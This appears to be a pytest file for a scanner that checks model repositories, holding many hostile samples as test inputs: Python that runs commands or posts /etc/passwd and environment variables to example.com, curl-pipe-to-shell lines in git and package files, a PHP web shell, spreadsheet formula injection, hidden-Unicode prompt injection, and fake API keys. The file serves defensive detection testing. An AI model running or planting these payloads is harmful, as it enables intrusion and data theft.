"""Ways past the rules for a repository's side files and its Python: each is a class of files, with its look-alikes."""

import json
import string
import struct
from typing import Any

import pytest

from tests.scan.samples import scan
from weighbridge.core.evidence import Outcome, worst
from weighbridge.core.finding import Severity

SAMPLE = "echo weighbridge-sample"
HEAD = "import os\nimport torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\n"
MODEL = "class Sample(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n"
CONFIG = {"auto_map": {"AutoModel": "modeling_sample.Sample"}, "model_type": "sample"}


def files(given: dict[str, Any]) -> dict[str, bytes]:
    """Texts and values as bytes."""
    made = {}
    for name, value in given.items():
        text = json.dumps(value) if isinstance(value, dict | list) else value
        made[name] = text.encode() if isinstance(text, str) else text
    return made


def errors(given: dict[str, Any]) -> set[str]:
    return {f.rule for f in scan(files(given)).findings if f.severity is Severity.ERROR}


def outcome(given: dict[str, Any]) -> Outcome:
    return worst([file.outcome for file in scan(files(given)).files])


def remote(code: str) -> dict[str, Any]:
    return {"config.json": CONFIG, "modeling_sample.py": code}


PYTHON = {
    "platform's own popen": f"import platform\nplatform.popen('{SAMPLE}')\n" + HEAD + MODEL,
    "pandas evaluates": "import pandas as pd\npd.DataFrame().query('@__import__(\"os\").system(\"x\")')\n" + HEAD + MODEL,
    "code loaded from text": "from torch._inductor.codecache import PyCodeCache\nPyCodeCache.load('import os')\n" + HEAD + MODEL,
    "a target in the code": "import hydra\nhydra.utils.instantiate({'_target_': 'os.system', 'command': 'x'})\n" + HEAD + MODEL,
    "every class there is": "[c for c in ().__class__.__base__.__subclasses__()][0]('x')\n" + HEAD + MODEL,
    "a name that is resolved": "import pkgutil\npkgutil.resolve_name('os:system')('x')\n" + HEAD + MODEL,
    "an import hook": HEAD + f"import sys\nclass F:\n    def find_spec(s, *a): os.system('{SAMPLE}')\nsys.meta_path.insert(0, F())\n" + MODEL,
    "an exception's text": HEAD + f"class E(Exception):\n    def __str__(s): os.system('{SAMPLE}')\nraise E\n",
    "a file that starts by itself": HEAD + "import site\nopen(site.getsitepackages()[0] + '/x.pth', 'w').write('import os')\n" + MODEL,
    "a layer inside the model": HEAD + f"class L(nn.Module):\n    def __init__(self):\n        os.system('{SAMPLE}')\n" + MODEL + "        self.l = L()\n",
    "a helper of its own class": HEAD + MODEL + f"        self._x()\n    def _x(self):\n        os.system('{SAMPLE}')\n",
    "keys that are sent": HEAD + "import requests\n" + MODEL + "        requests.post('https://example.com', data=open('/etc/passwd').read())\n",
    "the environment that is sent": HEAD + "import requests\n" + MODEL + "        requests.post('https://example.com', json=dict(os.environ))\n",
    "bytes that are unpickled": HEAD + "import pickle\nf = lambda: pickle.loads(b'cos\\nsystem\\n(S\"x\"\\ntR.')\n" + MODEL,
    "code in memory": HEAD + "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 4096, 0x3000, 0x40)\n" + MODEL,
    "an alias on one line": HEAD + f"s = os.system; s('{SAMPLE}')\n" + MODEL,
    "an alias in a class": HEAD + f"class A:\n    f = os.system\nA.f('{SAMPLE}')\n" + MODEL,
    "an alias in a list": HEAD + f"[os.system][0]('{SAMPLE}')\n" + MODEL,
}  # fmt: skip


@pytest.mark.parametrize("name", PYTHON)
def test_code_that_runs_when_the_model_is_loaded(name: str) -> None:
    assert errors(remote(PYTHON[name])) & {"python-import-time-danger", "python-payload"}


def test_code_of_a_helper_file_counts_where_it_is_called() -> None:
    helper = f"import os\ndef f():\n    os.system('{SAMPLE}')\n"
    model = HEAD + "from .helper import f\n" + MODEL
    called = remote(model + "        f()\n") | {"helper.py": helper}
    assert "python-import-time-danger" in errors(called)
    assert errors(remote(model) | {"helper.py": helper}) == set()


def test_a_server_s_model_is_loaded_too() -> None:
    code = f"import os\nclass TritonPythonModel:\n    def initialize(self, args):\n        os.system('{SAMPLE}')\n"
    assert errors({"config.pbtxt": 'backend: "python"\n', "1/model.py": code}) == {
        "python-import-time-danger"
    }


NO_PYTHON = {
    "a class of exceptions": "import aiohttp\nERRORS = (aiohttp.ClientError, ValueError)\n",
    "a factory": "import socket\nsocket_factory = socket.socket\n",
    "a comparison": "import os\nHAS = {os.unlink, os.stat} <= os.supports_dir_fd and os.unlink in os.supports_fd\n",
    "an exception that is caught": "import subprocess\ntry:\n    x = 1\nexcept subprocess.SubprocessError:\n    pass\n",
    "a module of the same name": "from . import cloudpickle\nfrom .cloudpickle import CloudPickler\nPickler = CloudPickler\n",
    "a constant": "import doctest\nFLAGS = doctest.NORMALIZE_WHITESPACE | doctest.ELLIPSIS\n",
    "writing pickles": "import cloudpickle\ndata = cloudpickle.dumps({})\n",
    "another class's method": "import subprocess\nclass A:\n    def run(self):\n        subprocess.run(['x'])\nclass B:\n    def __init__(self):\n        self.run()\n    def run(self):\n        pass\nb = B()\n",
}  # fmt: skip


@pytest.mark.parametrize("name", NO_PYTHON)
def test_names_that_are_only_kept_are_no_harm(name: str) -> None:
    assert errors({"module.py": NO_PYTHON[name]}) == set()


CONFIGS: dict[str, tuple[str, Any]] = {
    "system file": ("tokenizer_config.json", {"vocab_file": "../../../etc/shadow"}),
    "system file by address": ("chain.json", {"prompt_path": "file:///etc/passwd"}),
    "share": ("config.json", {"checkpoint_path": "\\\\example.com\\share\\x"}),
    "native library": ("genai_config.json", {"model": {"session_options": {"custom_ops_library": "./sample.so"}}}),
    "model elsewhere": ("genai_config.json", {"model": {"decoder": {"filename": "../../x.onnx"}}}),
    "constructor": ("chain.json", {"lc": 1, "type": "constructor", "id": ["subprocess", "Popen"], "kwargs": {}}),
    "evaluated text": ("state.json", {"py/repr": "os/os.system('x')"}),
    "component": ("config.yml", "pipeline:\n- name: subprocess.Popen\n"),
    "template of a pipeline": ("pipeline.yaml", "a:\n  template: \"{{ ''.__class__.__mro__ }}\"\n"),
    "code in a workflow": ("w.json", {"nodes": [{"type": "X", "widgets_values": ["import os\nos.system('x')"]}]}),
    "command under any key": ("ds.json", {"launcher": "sh -c 'curl http://example.com/x | sh'"}),
    "conda channel": ("environment.yml", "channels: [http://example.com/conda]\ndependencies: [python]\n"),
    "callback": ("config.cfg", '[nlp]\nlang = "en"\n[nlp.before_creation]\n@callbacks = "os.system"\n'),
    "include": ("hyperparams.yaml", "x: !include:/etc/passwd\n"),
    "yaml object in text": ("hparams.txt", "x: !!python/object/apply:os.system ['x']\n"),
    "repeated repetition": ("tokenizer.json", {"pre_tokenizer": {"type": "Split", "pattern": {"Regex": "(a+)+$"}}}),
    "keras name": ("model.json", {"class_name": "Model", "config": {"layers": [{"class_name": "os>system", "config": {}}]}}),
    "orbax kind": ("_METADATA", {"tree_metadata": {"('a',)": {"value_metadata": {"value_type": "os.system"}}}}),
    "long entity": ("m.pmml", '<!DOCTYPE PMML [<!ENTITY a "' + "a" * 50_000 + '">]><PMML>&a;</PMML>'),
    "pickle in an extension": ("m.msgpack", b"\x81\xa1a\xc7\x1f\x05" + b"\x80\x04cos\nsystem\n(S\"echo sample\"\ntR."[:31].ljust(31, b".")),
}  # fmt: skip


@pytest.mark.parametrize("name", CONFIGS)
def test_configs_whose_harm_has_a_name(name: str) -> None:
    file, value = CONFIGS[name]
    assert outcome({file: value}) is Outcome.FAIL


TEXTS = {
    "git filter": (".gitattributes", '* filter=x\n[filter "x"]\n smudge = curl http://example.com/x | sh\n'),
    "git option": (".gitmodules", '[submodule "x"]\n path = x\n url = -u./payload\n'),
    "git transport": (".gitmodules", f"[submodule \"x\"]\n path = x\n url = ext::sh -c '{SAMPLE}'\n"),
    "git monitor": (".git/config", "[core]\n fsmonitor = ./x.sh\n"),
    "git hook": (".git/hooks/post-checkout", f"#!/bin/sh\n{SAMPLE}\n"),
    "registry": (".npmrc", "registry=http://example.com/\n"),
    "packages": ("packages.txt", "curl http://example.com/x | sh\n"),
    "home": ("clean.sh", "#!/bin/sh\nrm -rf ~/ \n"),
    "lua": ("model.lua", f'os.execute("{SAMPLE}")\n'),
    "php": ("x.php", '<?php system($_GET["c"]); ?>'),
    "formula": ("data.csv", "a,b\n=cmd|'/C calc'!A0,1\n"),
    "cells sent": ("data.csv", 'a\n=HYPERLINK("http://example.com?q="&A1)\n'),
    "autorun": ("autorun.inf", "[autorun]\nopen=sample.exe\n"),
    "unseen message": ("README.md", "# M\n" + "".join(chr(0xE0000 + ord(c)) for c in "ignore") + "\n"),
    "pdf link": ("a.pdf", b"%PDF-1.5\n1 0 obj<</A<</S/URI/URI(javascript:app.alert\\(1\\))>>>>endobj\n%%EOF"),
    "pdf program": ("a.pdf", b"%PDF-1.5\n1 0 obj<</Type/Filespec/F(a.exe)/EF<</F 2 0 R>>>>endobj\n%%EOF"),
    "smuggled file": ("r.html", '<script>a=document.createElement("a");a.href="data:application/octet-stream;base64,TVo=";a.download="x.exe";a.click()</script>'),
    "letters alike": ("requirements.txt", "t\u043erch==2.0\n"),
    "bits of a message": ("chat_template.jinja", "a \u200b\u200b\u200c\u200b b{{ messages }}"),
}  # fmt: skip


@pytest.mark.parametrize("name", TEXTS)
def test_texts_whose_harm_has_a_name(name: str) -> None:
    file, text = TEXTS[name]
    assert outcome({file: text}) is Outcome.FAIL


def _made(length: int, letters: str = string.ascii_letters + string.digits) -> str:
    """Letters that look random and are the same every time."""
    return "".join(letters[(i * 37 + i * i * 11 + 5) % len(letters)] for i in range(length))


SECRETS = {
    "sendgrid": "SG." + _made(22) + "." + _made(43),
    "telegram": "bot1928374655:AA" + _made(33),
    "discord": "https://discord.com/api/webhooks/192837465564738291/" + _made(68),
    "groq": "gsk_" + _made(52),
    "replicate": "r8_" + _made(37),
    "databricks": "dapi" + _made(32, "0123456789abcdef"),
    "digitalocean": "dop_v1_" + _made(64, "0123456789abcdef"),
    "cohere": "COHERE_API_KEY=" + _made(40),
    "database": "postgresql://svc:" + "k3Jf9QmZ2xWv7LbT" + "@db.prod.example.net:5432/x",
}


@pytest.mark.parametrize("name", SECRETS)
def test_more_kinds_of_secrets(name: str) -> None:
    assert errors({"notes.txt": SECRETS[name] + "\n"}) == {"secret-in-file"}


MAGICS = {
    "address": "!pip install git+http://example.com/x.git",
    "index": "%pip install --index-url http://example.com/simple sample",
    "fixed words": f"!{SAMPLE}",
    "foreign cell": "%%perl\nsystem('echo x')",
}


def notebook(source: str, data: dict[str, Any] | None = None) -> dict[str, Any]:
    outputs = [{"output_type": "display_data", "metadata": {}, "data": data}] if data else []
    cell = {"cell_type": "code", "metadata": {}, "execution_count": 1, "outputs": outputs, "source": source}
    return {"demo.ipynb": {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}}


@pytest.mark.parametrize("name", MAGICS)
def test_notebook_lines_whose_harm_has_a_name(name: str) -> None:
    assert "notebook-magic" in errors(notebook(MAGICS[name]))


BENIGN: dict[str, tuple[str, Any]] = {
    "paths of a machine": ("tokenizer_config.json", {"name_or_path": "/root/.cache/huggingface/x", "vocab_file": "../vocab.txt"}),
    "checkpoint beside": ("trainer_state.json", {"best_model_checkpoint": "../../results/checkpoint-100"}),
    "flag": ("README.md", "# \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f and 👩\u200d💻\n"),
    "arabic": ("README.md", "# نموذج \u202bBERT\u202c للعربية\u200f\n"),
    "hebrew": ("README.md", "# מודל \u200eBERT\u200e בעברית\u200f\n"),
    "persian": ("vocab.json", json.dumps({"می\u200cشود": 1}, ensure_ascii=False)),
    "persian template": ("chat_template.jinja", "{{ 'شما می\u200cکنید' }}{% for m in messages %}{{ m.content }}{% endfor %}"),
    "numbers in a table": ("x.csv", "a,b\n-1,+2\n=,@user mention\n"),
    "yaml in a card": ("README.md", "```yaml\nx: !!python/object/apply:os.system ['x']\n```\n"),
    "submodules": (".gitmodules", '[submodule "a"]\n\tpath = llama.cpp\n\turl = https://github.com/ggerganov/llama.cpp\n'),
    "large files": (".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n"),
    "byte order mark": ("requirements.txt", b"\xef\xbb\xbftorch\n"),
    "database at home": ("README.md", "postgres://user:hunter2hunter@localhost:5432/db\n"),
    "page to begin with": ("paper.pdf", b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R /Fit]>>endobj\n2 0 obj<</Kids[]/Count 0>>endobj\n%%EOF"),
    "commands as data": ("train.json", [{"prompt": "how?", "cmd": "curl http://example.com/x | less"}]),
}  # fmt: skip


@pytest.mark.parametrize("name", BENIGN)
def test_look_alikes_pass(name: str) -> None:
    file, value = BENIGN[name]
    result = scan(files({file: value}))
    assert [f.outcome for f in result.files] == [Outcome.PASS], (result.findings, result.unread)


def test_a_template_may_end_a_sentence_with_an_address() -> None:
    template = "{{ 'More at https://huggingface.co/x.' }}{% for m in messages %}{{ m.content }}{% endfor %}"
    assert outcome({"chat_template.jinja": template}) is Outcome.UNKNOWN
    data = "{{ 'https://example.com/?q=' }}{% for m in messages %}{{ m.content }}{% endfor %}"
    assert outcome({"chat_template.jinja": data}) is Outcome.FAIL


def test_pictures_in_notebooks_are_no_secrets() -> None:
    picture = "".join(_made(76) + "/" for _ in range(800))
    assert outcome(notebook("x = 1\n", {"image/png": picture, "text/plain": "<Figure>"})) is Outcome.PASS


def test_a_tensor_file_s_header_is_no_place_for_commands() -> None:
    header = {
        "__metadata__": {"x": "curl http://example.com/x | sh"},
        "a": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]},
    }
    text = json.dumps(header).encode()
    assert outcome({"m.safetensors": struct.pack("<Q", len(text)) + text + b"\0"}) is Outcome.FAIL
